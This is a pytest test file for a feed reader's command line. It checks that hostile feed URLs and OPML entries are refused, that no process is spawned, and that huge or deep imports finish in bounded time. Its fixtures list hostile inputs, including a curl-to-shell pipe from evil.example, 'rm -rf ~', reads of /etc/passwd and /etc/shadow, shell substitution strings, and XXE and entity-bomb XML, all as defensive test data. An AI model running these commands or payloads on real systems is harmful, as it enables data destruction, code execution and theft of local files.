"""OPML and feed values never reach a shell; huge and deep OPML imports in bounded time."""

from __future__ import annotations

import html
import io
import os
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest

from reader.cli import main as cli_main
from reader.core.errors import OPMLError, UnsafeURLError
from reader.core.library import Library
from reader.core.models import FeedStatus
from reader.core.net.urls import check_feed_url
from tests.servers import FeedServer, Response

HOSTILE_URLS = [
    ("exec:touch /tmp/byline-pwned", "runs a command"),
    ("exec:rm -rf ~", "runs a command"),
    ("filter:/usr/bin/evil:https://ok.example/feed", "runs a command"),
    ("|curl https://evil.example | sh", "piped command"),
    ("  |id", "piped command"),
    ("file:///etc/passwd", "local file"),
    ("FILE:///etc/shadow", "local file"),
    ("data:application/rss+xml,<rss/>", "inline data"),
    ("javascript:alert(1)", "runs script"),
    ("JavaScript:alert(1)", "runs script"),
    ("vbscript:msgbox(1)", "runs script"),
    ("query:unread:unread = \"yes\"", "query"),
    ("ftp://ok.example/feed.xml", "only http and https"),
    ("gopher://ok.example/1", "only http and https"),
    ("$(id)", "scheme"),
    ("`id`", "scheme"),
    ("http://ok.example/feed\n|id", "control characters"),
    ("http://[::1", "not a valid URL"),
    ("https:///no-host", "no host"),
]


def cli(data_dir: Path, *args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = cli_main(["--data-dir", str(data_dir), *args], out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def opml(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="utf-8"?><opml version="2.0"><head><title>x</title></head><body>{body}</body></opml>'.encode()


def outline(url: str, title: str = "t") -> str:
    # &#10; keeps a newline a newline (a literal one in an attribute is read as a space)
    return f'<outline type="rss" text="{html.escape(title)}" xmlUrl="{html.escape(url).replace(chr(10), "&#10;")}"/>'


@pytest.mark.parametrize("url, reason", HOSTILE_URLS)
def test_check_feed_url_refuses_with_a_reason(url: str, reason: str) -> None:
    with pytest.raises(UnsafeURLError) as caught:
        check_feed_url(url)
    message = str(caught.value)
    assert reason.split()[0].lower() in message.lower() or reason.lower() in message.lower() or "refused" in message
    assert "\n" not in message


@pytest.mark.parametrize("url", [u for u, _ in HOSTILE_URLS])
def test_add_refuses_hostile_urls_with_exit_1(data_dir: Path, url: str) -> None:
    code, out, err = cli(data_dir, "add", url)
    assert code == 1
    assert out == ""
    assert len(err.strip().splitlines()) == 1 and err.startswith("byline: ")
    assert "Traceback" not in err
    code, out, _ = cli(data_dir, "feeds")
    assert code == 0 and out == ""  # nothing stored


def test_import_skips_hostile_urls_and_says_why(tmp_path: Path, data_dir: Path) -> None:
    good = ["https://ok.example/a.xml", "http://ok.example/b.rss"]
    body = "".join(outline(u, f"bad {n}") for n, (u, _) in enumerate(HOSTILE_URLS))
    body += '<outline text="Folder">' + "".join(outline(u, "good") for u in good) + "</outline>"
    body += '<outline type="include" url="file:///etc/passwd" text="inc"/>'
    path = tmp_path / "hostile.opml"
    path.write_bytes(opml(body))
    code, out, err = cli(data_dir, "import", str(path))
    assert code == 0, err
    assert out.strip() == f"added {len(good)}, already present 0, skipped {len(HOSTILE_URLS) + 1}"
    skipped = err.strip().splitlines()
    assert len(skipped) == len(HOSTILE_URLS) + 1
    assert all(line.startswith("skipped ") and ": " in line for line in skipped)
    assert any("runs a command" in line for line in skipped)
    assert any("include" in line.lower() for line in skipped)
    code, out, _ = cli(data_dir, "feeds")
    assert sorted(line.split("\t")[3] for line in out.strip().splitlines()) == sorted(good)


# --- nothing is ever spawned -------------------------------------------------------------------------


class Spawned(AssertionError):
    pass


def _forbid_spawning(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []

    def refuse(name: str) -> Any:
        def fn(*args: Any, **kwargs: Any) -> Any:
            calls.append(f"{name}{args[:2]!r}")
            raise Spawned(f"{name} called with {args[:2]!r}")

        return fn

    monkeypatch.setattr(subprocess, "Popen", refuse("subprocess.Popen"))
    for name in ("system", "popen", "execv", "execve", "execvp", "execvpe", "execl", "execlp", "spawnv", "spawnve",
                 "spawnvp", "posix_spawn", "posix_spawnp", "fork", "forkpty", "startfile"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, refuse(f"os.{name}"))
    return calls


HOSTILE_ITEM_LINKS = ["exec:id", "|id", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "$(id)"]


def _hostile_feed(n: int, server: FeedServer) -> bytes:
    items = "".join(
        f"<item><title>Item {n}-{i}</title><guid>{n}-{i}</guid><link>{html.escape(link)}</link>"
        f"<comments>{html.escape(link)}</comments><source url=\"{html.escape(link)}\">s</source>"
        f'<enclosure url="{html.escape(link)}" type="audio/mpeg" length="1"/>'
        f"<description>{html.escape(f'<p><a href={link!r}>[Officials say the bridge {n} reopens in spring]</a></p><script>x</script><img src={link!r}>')}</description></item>"
        for i, link in enumerate(HOSTILE_ITEM_LINKS)
    )
    items += f"<item><title>Good {n}</title><guid>good-{n}</guid><link>{server.url('/page.html')}</link></item>"
    return (
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>exec:id |id $(id)</title>'
        f"<link>exec:id</link><image><url>file:///etc/passwd</url></image>{items}</channel></rss>"
    ).encode()


def test_nothing_is_spawned_during_import_refresh_render_and_save(
    tmp_path: Path, library: Library, feed_server: FeedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    page = "<html><body><article><h1>Page</h1>" + "<p>A long story paragraph with words. </p>" * 40 + "</article></body></html>"
    feed_server.route("/page.html", Response(body=page, content_type="text/html"))
    feed_server.route("/favicon.ico", Response(status=404))
    for n in range(3):
        feed_server.route(f"/f{n}.xml", Response(body=_hostile_feed(n, feed_server), content_type="application/rss+xml"))
    body = "".join(outline(u, "bad") for u, _ in HOSTILE_URLS)
    body += "".join(outline(feed_server.url(f"/f{n}.xml"), f"exec:id {n}") for n in range(3))
    # Parse worker processes (reader.core.parsepool) start from a fixed command line, never from a feed
    # value; a thread keeps this test about what feeds and OPML could launch.
    monkeypatch.setenv("BYLINE_PARSE_POOL", "thread")
    calls = _forbid_spawning(monkeypatch)

    result = library.import_opml(opml(body))
    assert result.added == 3 and len(result.skipped) == len(HOSTILE_URLS)
    results = list(library.refresh_iter(workers=4))
    assert [r.status for r in results] == [FeedStatus.UPDATED] * 3, [r.error for r in results]
    articles = library.articles()
    assert len(articles) == 3 * (len(HOSTILE_ITEM_LINKS) + 1)
    for a in articles:
        full = library.article(a.id)
        assert a.url is None or a.url.startswith("http")
        assert all(e.url.startswith("http") for e in full.enclosures)
        rendered = library.render(a.id)
        assert "exec:" not in rendered.html and "file:" not in rendered.html
    good = [a.id for a in articles if a.title.startswith("Good")]
    library.mark_saved(good)
    for article_id in good:
        library.save_full_copy(article_id)
    for article_id in [a.id for a in articles if not a.title.startswith("Good")][:4]:
        library.mark_saved([article_id])
        assert library.save_full_copy(article_id) is not None or library.article(article_id).url is None
    for args in (["feeds"], ["articles"], ["export"], ["search", "bridge"], ["show", str(articles[0].id)]):
        code, _, err = cli(library.data_dir, *args)
        assert code == 0, err
    assert calls == []


# --- big and deep -------------------------------------------------------------------------------------


@pytest.mark.slow
def test_10k_outlines_import_in_bounded_time(tmp_path: Path, data_dir: Path) -> None:
    folders = "".join(
        f'<outline text="Folder {f}">' + "".join(outline(f"https://f{f}.example/{i}.xml", f"Feed {f}-{i}") for i in range(100)) + "</outline>"
        for f in range(100)
    )
    path = tmp_path / "big.opml"
    path.write_bytes(opml(folders))
    started = time.monotonic()
    code, out, err = cli(data_dir, "import", str(path))
    elapsed = time.monotonic() - started
    assert code == 0, err
    assert out.strip() == "added 10000, already present 0, skipped 0"
    assert elapsed < 30, elapsed
    started = time.monotonic()
    code, out, err = cli(data_dir, "import", str(path))  # again: all present, nothing doubled
    assert out.strip() == "added 0, already present 10000, skipped 0"
    code, out, _ = cli(data_dir, "feeds")
    assert len(out.strip().splitlines()) == 10000
    assert time.monotonic() - started < 30


def _deep_opml(depth: int, feeds_every: int = 10) -> bytes:
    opening = "".join(
        f'<outline text="L{d}">' + (outline(f"https://deep.example/{d}.xml", f"D{d}") if d % feeds_every == 0 else "")
        for d in range(depth)
    )
    return opml(opening + outline("https://deep.example/bottom.xml", "Bottom") + "</outline>" * depth)


def test_200_levels_deep_import_and_export(tmp_path: Path, library: Library) -> None:
    started = time.monotonic()
    result = library.import_opml(_deep_opml(200))
    assert result.added == 21 and result.folders == 200
    bottom = next(f for f in library.feeds() if f.url.endswith("bottom.xml"))
    assert bottom.folder.count("/") == 199
    folders = library.folders()
    assert max(f.path.count("/") for f in folders) == 199
    exported = library.export_opml()
    assert exported.count("<outline") == 200 + 21
    again = library.import_opml(exported.encode())  # round trip: the same tree, nothing added
    assert again.added == 0 and again.present == 21
    code, out, err = cli(library.data_dir, "feeds", "--json")
    assert code == 0, err
    assert library.folder_id(bottom.folder) is not None
    assert time.monotonic() - started < 30


@pytest.mark.parametrize("depth", [300, 5000, 100_000])
def test_deeper_than_supported_is_a_clear_error(data_dir: Path, tmp_path: Path, depth: int) -> None:
    path = tmp_path / "deep.opml"
    path.write_bytes(_deep_opml(depth, feeds_every=10**9))
    started = time.monotonic()
    code, out, err = cli(data_dir, "import", str(path))
    assert time.monotonic() - started < 20
    assert "Traceback" not in err and "RecursionError" not in err
    if code == 0:  # imported: then it really is all there
        assert out.startswith("added 1,")
    else:
        assert code == 1 and len(err.strip().splitlines()) == 1
        assert "deep" in err or "nested" in err or "levels" in err, err
        code, out, _ = cli(data_dir, "feeds")
        assert out == ""  # nothing half-imported


def test_opml_entity_bombs_and_xxe_are_refused(tmp_path: Path, library: Library) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-opml")
    bombs = [
        f'<!DOCTYPE o [<!ENTITY x SYSTEM "{secret.as_uri()}">]><opml version="2.0"><body><outline text="&x;" xmlUrl="https://ok.example/&x;"/></body></opml>',
        '<!DOCTYPE o [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">'
        '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">]>'
        '<opml version="2.0"><body><outline text="&h;" xmlUrl="https://ok.example/x"/></body></opml>',
    ]
    for doc in bombs:
        started = time.monotonic()
        with pytest.raises(OPMLError) as caught:
            library.import_opml(('<?xml version="1.0"?>' + doc).encode())
        assert time.monotonic() - started < 5
        assert "\n" not in str(caught.value)
    assert library.feeds() == [] and library.folders() == []
